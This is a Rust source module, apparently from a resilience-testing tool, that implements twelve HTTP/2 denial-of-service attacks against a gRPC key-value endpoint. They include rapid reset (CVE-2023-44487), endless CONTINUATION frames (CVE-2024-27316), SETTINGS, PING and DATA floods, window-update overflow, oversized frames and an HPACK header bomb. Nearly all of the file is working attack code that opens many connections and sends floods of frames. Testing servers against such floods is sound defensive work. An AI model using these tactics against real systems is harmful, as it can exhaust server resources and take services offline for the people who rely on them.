//! Attacks by frames of HTTP/2.

use std::io;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::super::wire::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    UNKNOWN, WINDOW_UPDATE, frame,
};
use super::Attack;

const PUT: &str = "/etcdserverpb.KV/Put";

/// Frames of one kind are sent so many at a time.
const BATCH: usize = 2_000;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "HTTP/2 that goes on with nothing",
        connections: 500,
        tactic: |stream| Box::pin(silent(stream)),
    },
    Attack {
        name: "rapid reset",
        connections: 4,
        tactic: |stream| Box::pin(rapid_reset(stream)),
    },
    Attack {
        name: "CONTINUATION without end",
        connections: 4,
        tactic: |stream| Box::pin(continuations(stream)),
    },
    Attack {
        name: "SETTINGS without end",
        connections: 4,
        tactic: |stream| {
            Box::pin(repeat(
                stream,
                frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
            ))
        },
    },
    Attack {
        name: "PING without end",
        connections: 4,
        tactic: |stream| Box::pin(repeat(stream, frame(PING, 0, 0, &[7; 8]))),
    },
    Attack {
        name: "unknown frames without end",
        connections: 4,
        tactic: |stream| Box::pin(repeat(stream, frame(UNKNOWN, 0, 0, &[7; 64]))),
    },
    Attack {
        name: "empty DATA without end",
        connections: 4,
        tactic: |stream| Box::pin(empty_data(stream)),
    },
    Attack {
        name: "windows beyond their limit",
        connections: 4,
        tactic: |stream| {
            Box::pin(repeat(
                stream,
                frame(WINDOW_UPDATE, 0, 0, &[127, 255, 255, 255]),
            ))
        },
    },
    Attack {
        name: "a frame of 16 MiB",
        connections: 4,
        tactic: |stream| Box::pin(huge_frame(stream)),
    },
    Attack {
        name: "a megabyte of headers",
        connections: 4,
        tactic: |stream| Box::pin(many_headers(stream)),
    },
    Attack {
        name: "headers that unpack to 64 MB",
        connections: 4,
        tactic: |stream| Box::pin(header_bomb(stream)),
    },
    Attack {
        name: "calls that are begun only",
        connections: 4,
        tactic: |stream| Box::pin(begun_calls(stream)),
    },
];

async fn silent(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    std::future::pending().await
}

/// One frame, over and over.
async fn repeat(mut stream: TcpStream, one: Vec<u8>) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let many = one.repeat(BATCH);
    loop {
        stream.write_all(&many).await?;
    }
}

/// Numbers of streams, as a client gives them.
fn streams() -> impl Iterator<Item = u32> {
    (1..=i32::MAX.cast_unsigned()).step_by(2)
}

/// CVE-2023-44487.
async fn rapid_reset(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    for number in streams() {
        let mut bytes = frame(HEADERS, END_HEADERS, number, &wire::call(PUT));
        bytes.extend(frame(RST_STREAM, 0, number, &[0, 0, 0, 8]));
        stream.write_all(&bytes).await?;
    }
    Ok(())
}

/// CVE-2024-27316 and others.
async fn continuations(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let mut bytes = frame(HEADERS, 0, 1, &wire::call(PUT));
    let piece = wire::header("x-more", &[b'a'; 200]).repeat(70);
    loop {
        bytes.extend(frame(CONTINUATION, 0, 1, &piece));
        stream.write_all(&bytes).await?;
        bytes.clear();
    }
}

async fn empty_data(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let call = frame(HEADERS, END_HEADERS, 1, &wire::call(PUT));
    stream.write_all(&call).await?;
    let many = frame(DATA, 0, 1, &[]).repeat(BATCH);
    loop {
        stream.write_all(&many).await?;
    }
}

async fn huge_frame(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let head = wire::head((1 << 24) - 1, DATA, 0, 1);
    stream.write_all(&head).await?;
    let zeros = [0; 64 * 1024];
    for _ in 0..256 {
        stream.write_all(&zeros).await?;
    }
    Ok(())
}

async fn many_headers(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let piece = wire::header("x-more", &[b'a'; 200]).repeat(70);
    for number in streams() {
        let mut bytes = frame(HEADERS, END_STREAM, number, &wire::call(PUT));
        for left in (0..70).rev() {
            let flags = if left == 0 { END_HEADERS } else { 0 };
            bytes.extend(frame(CONTINUATION, flags, number, &piece));
        }
        stream.write_all(&bytes).await?;
    }
    Ok(())
}

/// A header of 4,000 bytes goes into the table, and is then named by one byte, 16,000 times.
async fn header_bomb(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    let mut indexed = wire::header("x-bomb", &[b'a'; 4_000]);
    indexed[0] = 0x40;
    let mut first = wire::call(PUT);
    first.extend(indexed);
    let mut numbers = streams();
    let mut next = || numbers.next().expect("connections end sooner");
    let bytes = frame(HEADERS, END_HEADERS | END_STREAM, next(), &first);
    stream.write_all(&bytes).await?;
    let mut block = wire::call(PUT);
    block.resize(16_000, 0xbe);
    loop {
        let bytes = frame(HEADERS, END_HEADERS | END_STREAM, next(), &block);
        stream.write_all(&bytes).await?;
    }
}

async fn begun_calls(mut stream: TcpStream) -> io::Result<()> {
    wire::greet(&mut stream, &[]).await?;
    for number in streams() {
        let bytes = frame(HEADERS, END_HEADERS, number, &wire::call(PUT));
        stream.write_all(&bytes).await?;
    }
    Ok(())
}
